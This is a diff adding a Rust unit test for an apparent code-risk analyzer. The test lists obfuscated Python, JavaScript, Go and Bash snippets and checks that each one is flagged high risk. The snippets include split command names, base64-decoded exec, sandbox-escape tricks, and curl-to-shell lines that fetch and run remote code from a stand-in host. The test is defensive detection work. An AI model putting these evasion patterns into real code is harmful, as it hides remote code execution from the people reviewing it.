@@ -466,6 +466,64 @@ mod tests {
         );
     }
 
+    /// Ways to hide what code does: each must be caught as high risk ("cannot tell").
+    #[test]
+    fn evasions_raise_the_risk() {
+        let cases = [
+            (
+                "python",
+                "import subprocess\ncmd = 'cu' + 'rl'\nsubprocess.run([cmd, 'x'])\n",
+            ),
+            (
+                "python",
+                "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n",
+            ),
+            (
+                "python",
+                "getattr(__import__('o' + 's'), 'sys' + 'tem')('id')\n",
+            ),
+            ("python", "m = __import__(bytes([115, 111]).decode())\n"),
+            (
+                "python",
+                "[c for c in ().__class__.__base__.__subclasses__()]\n",
+            ),
+            ("python", "import importlib as il\nil.import_module(name)\n"),
+            ("python", "import ctypes\nctypes.CDLL(None).system(b'id')\n"),
+            ("python", "list(map(eval, ['1']))\n"),
+            ("python", "import os\nos.system(f'curl {url}')\n"),
+            ("javascript", "globalThis['ev' + 'al']('1');\n"),
+            (
+                "javascript",
+                "[].constructor.constructor('return process')();\n",
+            ),
+            ("javascript", "require(['child', 'process'].join('_'));\n"),
+            ("javascript", "Reflect.apply(eval, null, ['1']);\n"),
+            ("javascript", "const m = await import(`node:${x}`);\n"),
+            (
+                "javascript",
+                "require('child_process').exec(`curl ${u}`);\n",
+            ),
+            (
+                "go",
+                "package main\nimport \"os/exec\"\nfunc main() { exec.Command(os.Args[1]).Run() }\n",
+            ),
+            (
+                "go",
+                "package main\nimport \"unsafe\"\nfunc main() { _ = unsafe.Pointer(nil) }\n",
+            ),
+            ("bash", "$(echo Y3VybA== | base64 -d) x\n"),
+            ("bash", "eval \"$(curl -s x.invalid)\"\n"),
+            ("bash", "c=curl; $c x\n"),
+            ("bash", "curl -s x.invalid | python3\n"),
+            ("bash", "bash <(curl -s x.invalid)\n"),
+            ("bash", "echo aWQ= | base64 -d | sh\n"),
+        ];
+        for (lang, src) in cases {
+            let a = analyze(lang, &[(file_for(lang), src)]);
+            assert_eq!(a.risk, Risk::High, "{lang}: {src}\n{}", a.summary());
+        }
+    }
+
     /// A small deterministic generator (xorshift), so failures reproduce.
     fn noise(seed: u64, len: usize, alphabet: &[u8]) -> String {
         let mut x = seed.max(1);
